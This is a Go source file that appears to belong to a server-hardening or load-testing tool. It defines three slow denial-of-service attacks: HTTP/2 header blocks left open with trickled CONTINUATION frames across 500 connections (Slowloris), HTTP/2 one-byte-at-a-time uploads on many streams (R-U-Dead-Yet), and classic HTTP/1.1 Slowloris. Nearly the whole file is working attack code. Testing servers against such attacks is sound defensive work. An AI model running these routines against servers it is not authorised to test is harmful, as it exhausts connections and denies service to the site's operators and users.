package main

import (
	"context"
	"time"

	"golang.org/x/net/http2"
)

// slowHeaders sends header blocks that do not end, in many connections.
var slowHeaders = &attack{
	name: "slow-headers", what: "HEADERS without END_HEADERS, an octet of CONTINUATION now and then (Slowloris)", conns: 500,
	run: func(ctx context.Context, e *enemy) error {
		if err := e.frame(http2.FrameHeaders, http2.FlagHeadersEndStream, e.next, []byte{0x82, 0x84, 0x87}); err != nil {
			return err
		}
		for ctx.Err() == nil {
			if err := e.wait(ctx, 300*time.Millisecond); err != nil {
				return err
			}
			if err := e.frame(http2.FrameContinuation, 0, e.next, []byte{0x82}); err != nil {
				return err
			}
		}
		return nil
	},
}

// slowBody uploads an octet now and then, on many streams.
var slowBody = &attack{
	name: "slow-body", what: "uploads of an octet now and then, 100 in each connection (R-U-Dead-Yet)", conns: 50,
	run: func(ctx context.Context, e *enemy) error {
		var ids []uint32
		for range 100 {
			id, err := e.post("content-length", "1000000")
			if err != nil {
				return err
			}
			ids = append(ids, id)
		}
		for ctx.Err() == nil {
			if err := e.wait(ctx, 500*time.Millisecond); err != nil {
				return err
			}
			for _, id := range ids {
				if err := e.fr.WriteData(id, false, []byte("x")); err != nil {
					return err
				}
			}
		}
		return nil
	},
}

// slowHead1 is Slowloris as it was.
var slowHead1 = &attack{
	name: "slow-head-http1", what: "HTTP/1.1 header sections that come octet by octet (Slowloris)", conns: 500, over: overRaw,
	run: func(ctx context.Context, e *enemy) error {
		_, err := e.w.WriteString("GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
		for err == nil && ctx.Err() == nil {
			_ = e.w.WriteByte('x')
			err = e.wait(ctx, 300*time.Millisecond)
		}
		return err
	},
}
